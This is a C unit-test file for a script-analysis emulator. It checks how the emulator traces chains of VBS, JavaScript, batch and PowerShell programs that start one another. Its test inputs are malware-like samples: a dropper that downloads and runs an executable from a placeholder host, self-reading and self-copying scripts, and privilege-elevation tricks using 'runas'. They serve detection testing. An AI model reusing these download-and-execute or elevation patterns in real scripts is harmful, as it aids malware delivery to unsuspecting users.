/* Programs that start programs: one world for a whole chain, in order, each thing told once. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../test.h"
#include "base/arena.h"
#include "base/buf.h"
#include "make/scanned.h"
#include "make/zip.h"
#include "model/effects.h"
#include "model/evidence.h"
#include "model/kinds.h"
#include "model/limits.h"

static sk_report *scan_text(const char *text, const char *name) { return make_scanned(sk_bytes_str(text), name, NULL); }

static sk_bytes arg_of(const sk_effect *e, const char *name)
{
    for (size_t i = 0; i < e->arg_count; i++)
        if (sk_is(e->args[i].name, name)) return e->args[i].value;
    return (sk_bytes){NULL, 0};
}

/* The n-th effect of that operation whose argument holds the text, or NULL. */
static const sk_effect *find_effect(const sk_report *r, unsigned op, const char *arg, const char *holds, unsigned n)
{
    size_t count;
    const sk_effect *e = sk_report_effects(r, &count);
    for (size_t i = 0; i < count; i++)
        if (e[i].op == op && sk_find(arg_of(&e[i], arg), 0, sk_bytes_str(holds)) != SK_NPOS && n-- == 0) return &e[i];
    return NULL;
}

static bool has_evidence(const sk_report *r, unsigned id)
{
    size_t count;
    const sk_evidence *e = sk_report_evidence(r, &count);
    for (size_t i = 0; i < count; i++)
        if (e[i].id == id) return true;
    return false;
}

static void what_one_layer_fetches_the_next_starts(void **state)
{
    (void)state;
    sk_report *r = scan_text("Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
                             "Set sh = CreateObject(\"WScript.Shell\")\r\n"
                             "t = sh.ExpandEnvironmentStrings(\"%TEMP%\")\r\n"
                             "Set f = fso.CreateTextFile(t & \"\\b.bat\", True)\r\n"
                             "f.WriteLine \"set U=http://files.example/x\"\r\n"
                             "f.WriteLine \"powershell -Command \"\"(New-Object Net.WebClient).DownloadFile('%U%','%TEMP%\\q.exe')\"\"\"\r\n"
                             "f.WriteLine \"%TEMP%\\q.exe /s\"\r\n"
                             "f.Close\r\n"
                             "sh.Run t & \"\\b.bat\", 0, True\r\n"
                             "If fso.FileExists(t & \"\\q.exe\") Then sh.Run \"rundll32 \" & t & \"\\q.exe,Go\"\r\n",
                             "a.vbs");
    const sk_artifact *bat = make_found(r, "b.bat", 0);
    assert_non_null(bat);
    assert_int_equal(bat->kind, SK_KIND_SCRIPT_BATCH);
    assert_int_equal(bat->parent, 0);
    const sk_artifact *inner = make_found(r, "powershell -Command", 0);
    assert_non_null(inner);
    assert_int_equal(inner->parent, bat->id);
    const sk_effect *fetch = find_effect(r, SK_OP_DOWNLOAD, "result", "succeeded", 0);
    const sk_effect *start = find_effect(r, SK_OP_RUN, "path", "q.exe", 0);
    const sk_effect *last = find_effect(r, SK_OP_RUN, "command", "rundll32", 0);
    assert_non_null(fetch);
    assert_non_null(start);
    assert_non_null(last);
    assert_int_equal(fetch->artifact, inner->id);
    assert_int_equal(start->artifact, bat->id);
    assert_int_equal(last->artifact, 0);
    assert_true(fetch->order < start->order && start->order < last->order);
    assert_true(sk_find(arg_of(start, "flow"), 0, SK_LIT("network")) != SK_NPOS);
    assert_true(has_evidence(r, SK_EV_EFFECT_FETCH_RUN));
    sk_report_free(r);
}

/* The program that starts a command line tells it; the command line itself does not tell it again. */
static void a_start_is_told_once(void **state)
{
    (void)state;
    sk_report *r = scan_text("CreateObject(\"WScript.Shell\").Run \"powershell -c calc\"\r\n", "a.vbs");
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "powershell -c calc", 0));
    assert_null(find_effect(r, SK_OP_RUN, "command", "powershell -c calc", 1));
    sk_report_free(r);
}

/* Variables of a program end with it; those of the program that started it are there. */
static void environment_is_handed_down_and_not_up(void **state)
{
    (void)state;
    sk_report *r = scan_text("@echo off\r\nset A=down\r\ncmd /c start notepad.exe %A%\r\n"
                             "echo set A=up> t.bat\r\necho notepad.exe inside %B%>> t.bat\r\nt.bat\r\nnotepad.exe after %A%\r\n",
                             "a.bat");
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "notepad.exe down", 0));
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "notepad.exe after down", 0));
    assert_null(find_effect(r, SK_OP_RUN, "command", "after up", 0));
    sk_report_free(r);
}

static void a_script_reads_its_own_bytes(void **state)
{
    (void)state;
    sk_report *r = scan_text("@echo off\r\nfindstr /b \"::x\" \"%~f0\" > \"%TEMP%\\o.txt\"\r\n"
                             "for /f \"tokens=2 delims= \" %%a in (%TEMP%\\o.txt) do start %%a\r\nexit /b\r\n::x http://self.example/a\r\n",
                             "carrier.bat");
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "http://self.example/a", 0));
    sk_report_free(r);
}

/* A script reads, copies and starts what lies beside it in its archive, whatever came first. */
static void files_of_the_same_archive_are_there(void **state)
{
    (void)state;
    sk_arena *a = sk_arena_new(16u << 20);
    sk_bytes script = sk_bytes_str("@echo off\r\nfor /f %%a in (data.txt) do start %%a\r\nfor /f %%a in (later.txt) do start %%a\r\n"
                                   "copy code.dat \"%TEMP%\\code.vbs\"\r\nwscript \"%TEMP%\\code.vbs\"\r\nrundll32 lib.dat,Go\r\n");
    make_zip_entry entries[] = {{.name = "data.txt", .data = SK_LIT("http://first.example/a\r\n"), .method = 8},
                                {.name = "lib.dat", .data = SK_LIT("no library, a text\r\n")},
                                {.name = "code.dat", .data = SK_LIT("CreateObject(\"WScript.Shell\").Run \"notepad beside\"\r\n"), .method = 8},
                                {.name = "run.bat", .data = script, .method = 8},
                                {.name = "later.txt", .data = SK_LIT("http://later.example/b\r\n"), .method = 8}};
    sk_report *r = make_scanned(make_zip(a, entries, SK_COUNT(entries), NULL), "x.zip", NULL);
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "http://first.example/a", 0));
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "http://later.example/b", 0));
    assert_non_null(find_effect(r, SK_OP_RUN, "command", "notepad beside", 0));
    assert_non_null(find_effect(r, SK_OP_RUN, "path", "lib.dat", 0));
    assert_null(find_effect(r, SK_OP_READ, "path", "absent", 0));
    sk_report_free(r);
    sk_arena_free(a);
}

/* --- what must end --- */

static void a_program_that_starts_itself_ends(void **state)
{
    (void)state;
    sk_report *r = scan_text("%~f0\r\ncmd /c \"%~f0\"\r\nwscript x.vbs\r\n", "again.bat");
    assert_non_null(r);
    sk_report_free(r);
}

static void endless_layers_end_at_the_limit(void **state)
{
    (void)state;
    char text[1200];
    for (unsigned depth = 1; depth <= 240; depth += 120) { /* deep in its own procedures, too */
        snprintf(text, sizeof text,
                 "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"
                 "own = fso.OpenTextFile(WScript.ScriptFullName).ReadAll\r\n"
                 "p = sh.ExpandEnvironmentStrings(\"%%TEMP%%\") & \"\\s\" & Len(own) & \".vbs\"\r\n"
                 "Function R(d)\r\nIf d < %u Then\r\nR = R(d + 1) + 1\r\nElse\r\nSet f = fso.CreateTextFile(p, True)\r\n"
                 "f.Write own & \"'x\" & vbCrLf\r\nf.Close\r\nsh.Run \"wscript.exe \" & p\r\nR = 1\r\nEnd If\r\nEnd Function\r\nx = R(0)\r\n",
                 depth);
        sk_report *r = scan_text(text, "deep.vbs");
        if (depth < 200) assert_true(make_reached(r, SK_LIMIT_EMULATE_LAYERS));
        sk_report_free(r);
    }
}

static void starts_in_a_loop_keep_to_the_budget(void **state)
{
    (void)state;
    sk_report *r = scan_text("Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"
                             "For i = 1 To 100000\r\nfso.CreateTextFile(\"C:\\Users\\Public\\a.txt\", True).Write \"a\" & i\r\n"
                             "sh.Run \"powershell -c \"\"$a=1; while($true){$a++}\"\"\"\r\nNext\r\n",
                             "loop.vbs");
    assert_true(make_reached(r, SK_LIMIT_EMULATE_STEPS) || make_reached(r, SK_LIMIT_EMULATE_FILES));
    sk_report_free(r);
}

static void expect_run(const char *text, const char *name, const char *command)
{
    sk_report *r = scan_text(text, name);
    if (!find_effect(r, SK_OP_RUN, "command", command, 0)) fail_msg("%s: no %s", name, command);
    sk_report_free(r);
}

static void what_a_started_program_prints_can_be_read(void **state)
{
    (void)state;
    expect_run("Set s = CreateObject(\"WScript.Shell\")\r\nSet e = s.Exec(\"cmd /c echo one&echo two\")\r\nDo Until e.StdOut.AtEndOfStream\r\n"
               "t = t & e.StdOut.ReadLine & \"-\"\r\nLoop\r\ns.Run \"a.invalid \" & t\r\n", "a.vbs", "a.invalid one-two-");
    expect_run("var s = new ActiveXObject('WScript.Shell'); s.Run('b.invalid ' + s.Exec('powershell -c \"\\'x\\'+\\'y\\'\"').StdOut.ReadAll());", "b.js", "b.invalid xy");
    expect_run("@for /f %%a in ('powershell -c \"Write-Host ('c'+'.invalid')\"') do start %%a\r\n", "c.bat", "c.invalid");
    expect_run("@echo WScript.Echo \"d\" ^& \".invalid\" > %TEMP%\\x.vbs\r\n@for /f %%a in ('cscript //nologo %TEMP%\\x.vbs') do start %%a\r\n", "d.bat", "d.invalid");
    expect_run("@echo WScript.StdOut.WriteLine('e' + '.invalid') > %TEMP%\\x.js\r\n@for /f %%a in ('cscript //nologo %TEMP%\\x.js') do start %%a\r\n", "e.bat", "e.invalid");
    expect_run("@powershell -c \"[Console]::WriteLine('f.invalid')\" > %TEMP%\\o.txt\r\n@for /f %%a in (%TEMP%\\o.txt) do start %%a\r\n", "f.bat", "f.invalid");
    /* the same command again */
    expect_run("Set s = CreateObject(\"WScript.Shell\")\r\nx = s.Exec(\"cmd /c echo g\").StdOut.ReadAll\r\ny = s.Exec(\"cmd /c echo g\").StdOut.ReadAll\r\n"
               "s.Run \"g.invalid \" & Left(x, 1) & Left(y, 1)\r\n", "g.vbs", "g.invalid gg");
}

/* A million lines: what was read up to the limit of memory is calculated, and the cut is told. */
static void lines_up_to_the_memory_are_calculated(void **state)
{
    static const struct { const char *name, *first; unsigned limit; } rows[] = {
        {"a.vbs", "CreateObject(\"WScript.Shell\").Run \"first.invalid\"\n", SK_LIMIT_MEMORY},
        {"a.ps1", "Start-Process first.invalid\n", SK_LIMIT_POWERSHELL_MEMORY},
        {"a.js", "new ActiveXObject('WScript.Shell').Run('first.invalid');\n", SK_LIMIT_JAVASCRIPT_SOURCE},
    };
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        enum { LINES = 1000000, ROOM = 24 };
        char *text = malloc((size_t)LINES * ROOM + 100);
        assert_non_null(text);
        size_t len = (size_t)sprintf(text, "%s", rows[i].first);
        for (unsigned k = 0; k < LINES; k++) {
            if (i == 0) len += (size_t)sprintf(text + len, "x%u = %u + 1\n", k % 1000, k);
            else if (i == 2) len += (size_t)sprintf(text + len, "var x%u = %u;\n", k % 1000, k);
            else len += (size_t)sprintf(text + len, "$x%u = %u + 1\n", k % 1000, k);
        }
        sk_report *r = make_scanned(sk_bytes_of((const uint8_t *)text, len), rows[i].name, NULL);
        assert_non_null(find_effect(r, SK_OP_RUN, "command", "first.invalid", 0));
        assert_true(make_reached(r, rows[i].limit));
        sk_report_free(r);
        free(text);
    }
}

static void the_clipboard_is_one_for_all_languages(void **state)
{
    (void)state;
    expect_run("@echo a.invalid| clip\r\n@for /f %%a in ('powershell Get-Clipboard') do start %%a\r\n", "a.bat", "a.invalid");
    expect_run("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -c Set-Clipboard 'b.invalid'\", 0, True\r\n"
               "s.Run CreateObject(\"htmlfile\").parentWindow.clipboardData.getData(\"text\")\r\n", "b.vbs", "b.invalid");
    expect_run("new ActiveXObject('htmlfile').parentWindow.clipboardData.setData('text', 'c.' + 'invalid');\n"
               "var d = new ActiveXObject('new:{1C3B4210-F441-11CE-B9EA-00AA006B1A69}'.substr(4)); d.GetFromClipboard(); new ActiveXObject('WScript.Shell').Run(d.GetText());\n",
               "c.js", "c.invalid");
}

/* What asks for more rights starts itself, with a word behind its name: in the lines of the script itself. */
static void a_program_with_more_rights_goes_on(void **state)
{
    static const struct { const char *name, *text; } rows[] = {
        {"a.vbs", "If WScript.Arguments.Count = 0 Then\r\nCreateObject(\"Shell.Application\").ShellExecute \"wscript.exe\", Chr(34) & WScript.ScriptFullName & Chr(34) & \" /up:1 x\", \"\", \"runas\", 1\r\nWScript.Quit\r\nEnd If\r\n"
                  "For Each w In WScript.Arguments\r\nn = n & w\r\nNext\r\nIf WScript.Arguments.Named(\"up\") & WScript.Arguments.Unnamed(0) & n = \"1x/up:1x\" Then CreateObject(\"WScript.Shell\").Run \"after.invalid\"\r\n"},
        {"a.js", "if (!WScript.Arguments.length) {\nnew ActiveXObject('Shell.Application').ShellExecute('wscript.exe', '\"' + WScript.ScriptFullName + '\" go', '', 'runas', 0);\nWScript.Quit();\n}\n"
                 "if (WScript.Arguments(0) == 'go') new ActiveXObject('WScript.Shell').Run('after.invalid');\n"},
        {"a.bat", "@echo off\r\nif not \"%1\"==\"up\" (\r\npowershell -Command \"Start-Process -Verb RunAs -FilePath '%0' -ArgumentList 'up'\"\r\nexit /b\r\n)\r\n%0 again\r\nafter.invalid\r\n"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        sk_report *r = scan_text(rows[i].text, rows[i].name);
        const sk_effect *after = find_effect(r, SK_OP_RUN, "command", "after.invalid", 0);
        if (!after) fail_msg("%s: what comes with more rights was not seen", rows[i].name);
        assert_int_equal(after->artifact, 0);
        assert_true(after->line > 4);
        assert_null(find_effect(r, SK_OP_RUN, "command", "after.invalid", 1));
        sk_report_free(r);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_one_layer_fetches_the_next_starts), cmocka_unit_test(a_start_is_told_once),
        cmocka_unit_test(environment_is_handed_down_and_not_up),  cmocka_unit_test(a_script_reads_its_own_bytes),
        cmocka_unit_test(files_of_the_same_archive_are_there),
        cmocka_unit_test(a_program_that_starts_itself_ends), cmocka_unit_test(a_program_with_more_rights_goes_on),      cmocka_unit_test(endless_layers_end_at_the_limit),
        cmocka_unit_test(starts_in_a_loop_keep_to_the_budget),   cmocka_unit_test(what_a_started_program_prints_can_be_read),
        cmocka_unit_test(the_clipboard_is_one_for_all_languages), cmocka_unit_test(lines_up_to_the_memory_are_calculated),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
